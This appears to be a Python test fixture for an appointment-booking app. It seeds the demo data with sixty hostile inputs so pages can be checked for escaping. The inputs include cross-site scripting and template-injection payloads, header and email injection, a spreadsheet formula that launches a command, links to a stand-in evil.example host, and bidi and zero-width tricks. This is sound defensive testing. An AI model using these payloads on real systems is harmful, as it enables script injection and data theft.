r"""Sixty texts that somebody might type to harm whoever reads them, and a demo in which every text is made of them.

What runs says so: it sets `__hit` to the number of its text. `tests.pages.assembly hostile` is the product with this
demo, and one page that shows the texts as no page of ours may.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import fields, replace
from datetime import datetime, time, timedelta
from itertools import cycle
from random import Random
from typing import Any
from uuid import UUID

from app import clock
from app.context import Actor, Context
from app.intervals import Interval
from app.paging import Page
from app.text import many_lines, one_line
from services import appointments, calendars, clients, demo, locations, offerings, people, skills, tenants
from services.appointments import Status
from services.clients import ClientRef
from services.demo import business, filling, loading

ALL = Page(500)
MARKUP = (
    '<script>__hit=1</script>', '"><script>__hit=2</script>', '<img src=x onerror=__hit=3>', '<svg onload=__hit=4>',
    '<svg><script>__hit=5</script></svg>', '<body onload=__hit=6>',
    '<iframe srcdoc="<script>parent.__hit=7</script>">', '<iframe src=javascript:parent.__hit=8>',
    '<input autofocus onfocus=__hit=9>', '<details open ontoggle=__hit=10>x',
    '<video><source onerror=__hit=11></video>',
    '<a href=javascript:__hit=12>Click</a>', '" onmouseover=__hit=13 style=position:fixed;inset:0 x="',
    "' autofocus onfocus=__hit=14 tabindex=0 x='", '</textarea><script>__hit=15</script>',
    '</title><img src=x onerror=__hit=16>', '</script><script>__hit=17</script>',
    '<!--><img src=x onerror=__hit=18>-->',
    '<math><mtext><table><mglyph><style></math><img src onerror=__hit=19>',
    '<noscript><p title="</noscript><img src=x onerror=__hit=20>">', '&lt;img src=x onerror=__hit=21&gt;',
    '&#60;img src=x onerror=__hit=22&#62;', '<IMG """><SCRIPT>__hit=23</SCRIPT>">', '<img/src/onerror=__hit=24>',
    '<object data="data:text/html,<script>parent.__hit=25</script>">', '<embed src="javascript:__hit=26">',
    '<meta http-equiv=refresh content="0;url=javascript:__hit=27">', '<base href="https://evil.example/28/">',
    '<link rel=stylesheet href="https://evil.example/29.css">', '<form action="https://evil.example/30"><button>OK</button>',
)
ADDRESSES = (
    'javascript:__hit=31', 'JaVaScRiPt://%0a__hit=32', 'data:text/html,<script>__hit=33</script>', 'vbscript:__hit=34',
    '//evil.example/35', 'java\tscript:__hit=36', '[Click](javascript:__hit=37) ![x](https://evil.example/37)',
)
TEMPLATES = (
    "{{$nextTick.constructor('window.__hit=38')()}}", "{{$emit.constructor('window.__hit=39')()}}",
    '${window.__hit=40} `+(window.__hit=40)+`',
    '{% for x in [].__class__.__base__.__subclasses__() %}{{x}}{% endfor %}',
    '<component :is="\'script\'">__hit=42</component>', '<p v-html="\'<img src=x onerror=__hit=43>\'"></p>',
    '<p :title="$emit.constructor(\'window.__hit=44\')()">', '<%= 7*7 %> #{7*7} %(name)s {0.__class__} %n%s',
)
STYLES = (
    '</style><style>*{background:url(https://evil.example/46)}', 'red;background:url(https://evil.example/47)',
    'x" style="background:url(https://evil.example/48)', '*/ } body { display: none } /*',
)
LINES = (
    'Eve\r\nBcc: everybody@evil.example\r\n\r\n<script>__hit=50</script>',
    'Eve%0d%0aSet-Cookie:%20daybook_session=evil', 'x\n{"event": "ready"}\n\x1b[31m',
)
CELLS = ('=HYPERLINK("https://evil.example/"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0")
LETTERS = (
    '\u202egnp.exe\u202c \u2066isolated\u2069', 'ze\u200bro\u2060wi\ufeffdth', 'nu\x00ll and \x7f', 'مرحبا שלום bidi',
    '👩\u200d👩\u200d👧 🏳️\u200d🌈 e\u0301\u0323' + '\u0336' * 8, 'W' * 78,
)
TEXTS = (*MARKUP, *ADDRESSES, *TEMPLATES, *STYLES, *LINES, *CELLS, *LETTERS)
NOTE = '\n'.join(TEXTS)  # longer than an appointment's may be
NOTES = ('\n'.join(TEXTS[:30]), '\n'.join(TEXTS[30:]))


def kept(text: str) -> str:
    """As the services keep it in one line."""
    return one_line(text, 'text', most=4000)


def dealt(names: Sequence[str], most: int, *, but: Sequence[str] = (), turn: int = 0) -> dict[str, str]:
    """Names with as many of the texts behind them as fit, so that between them they have as many as they can hold.

    Those in `but` stay: the journeys ask for them by name.
    """
    texts = cycle([kept(text) for text in TEXTS[turn:] + TEXTS[:turn]])
    waiting, made = next(texts), {}
    for name in names:
        made[name] = name
        while name not in but and len(made[name]) + 1 + len(waiting) <= most:
            made[name] += ' ' + waiting
            waiting = next(texts)
    return made


def poison() -> None:
    """From now on the demo is made of these texts, by the services as ever."""
    founded, people_of = tenants.found, filling._people

    async def found(*, name: str, **options: Any) -> UUID:
        return await founded(name=dealt([name], 120)[name], **options)

    def refs(random: Random) -> list[ClientRef]:
        plain = people_of(random)
        names = dealt([ref.name for ref in plain], 120)
        return [replace(ref, name=names[ref.name]) for ref in plain]

    tenants.found = found  # type: ignore[assignment]  # the same, with another name
    filling._people = refs
    business.NOTES = tuple(many_lines(part, 'note') for part in NOTES)
    business.REASONS = tuple(map(kept, TEXTS))
    demo.load = load


async def load() -> None:
    """The demo, and then every text of it changed to something worse."""
    await loading.load()
    tenant_id, head_id = await people.home_of(business.HEAD.email) or (None, None)
    assert tenant_id
    ctx = Context.system(tenant_id, clock.now(), zone='Europe/London')
    await _catalogue(ctx)
    await _who_and_where(ctx)
    head = await people.by_id(ctx, user_id=head_id)
    await _what_happens(replace(ctx, actor=Actor(head.id, head.name, head.role)))


async def _catalogue(ctx: Context) -> None:
    held = (await skills.listed(ctx, page=ALL)).rows
    names = dealt([each.name for each in held], 80, turn=3)
    for number, skill in enumerate(held):
        await skills.change(ctx, skill_id=skill.id, name=names[skill.name], category=kept(MARKUP[number]),
                            description=NOTES[number % 2])
    offered = (await offerings.listed(ctx, page=ALL)).rows
    names = dealt([each.name for each in offered], 120, but=['Physiotherapy'], turn=20)
    for offer in offered:
        said = {field.name: getattr(offer, field.name) for field in fields(offer)}
        del said['id'], said['is_active']
        await offerings.change(ctx, offering_id=offer.id, **said | {'name': names[offer.name], 'description': NOTE})


async def _who_and_where(ctx: Context) -> None:
    stand = (await locations.listed(ctx, page=ALL)).rows
    names = dealt([each.name for each in stand], 120, turn=36)
    for place in stand:
        await locations.change(ctx, location_id=place.id, name=names[place.name], zone=place.zone,
                               address=many_lines(NOTE[:480], 'address'), region=kept(TEMPLATES[0]))
    teams = (await people.groups(ctx, page=ALL)).rows
    names = dealt([each.name for each in teams], 80, but=['Camden clinic'], turn=40)
    for team in teams:
        await people.change_group(ctx, group_id=team.id, name=names[team.name], description=NOTE,
                                  region=kept(MARKUP[2]))
    staff = (await people.listed(ctx, page=ALL)).rows
    names = dealt([each.name for each in staff], 120)
    for person in staff:
        await people.change(ctx, user_id=person.id, name=names[person.name], role=person.role, zone=person.zone)
    columns = (await calendars.listed(ctx, page=ALL)).rows
    names = dealt([each.name for each in columns], 120)
    for column in columns:
        await calendars.change(ctx, calendar_id=column.id, name=names[column.name], location_id=column.location_id,
                               provider_id=column.provider_id, zone=column.zone, group_ids=column.group_ids)


async def _what_happens(ctx: Context) -> None:
    """What the client says and what is said of them; why somebody is away; why somebody is told not to come."""
    ahead = await appointments.on_board(ctx, during=Interval.lasting(ctx.now, timedelta(days=14)))
    for client_id in dict.fromkeys(each.client_id for each in ahead):
        client = await clients.by_id(ctx, client_id=client_id)
        await clients.change(ctx, client_id=client_id, name=client.name, email=client.email, phone=client.phone,
                             note=NOTE)
    for number, column in enumerate((await calendars.listed(ctx, page=ALL)).rows):
        away = datetime.combine(ctx.now.date() + timedelta(days=2), time(12 + number % 6))
        why = kept(' '.join(TEXTS[number * 2:][:4])[:190])
        await calendars.add_exception(ctx, calendar_id=column.id, kind=calendars.ExceptionKind.OFF, starts=away,
                                      ends=away + timedelta(minutes=30), reason=why)
    cancellable = [each for each in ahead if each.status is Status.CONFIRMED][-len(TEXTS):]
    for appointment, text in zip(cancellable, TEXTS, strict=False):
        await appointments.cancel(ctx, appointment_id=appointment.id, reason=text)
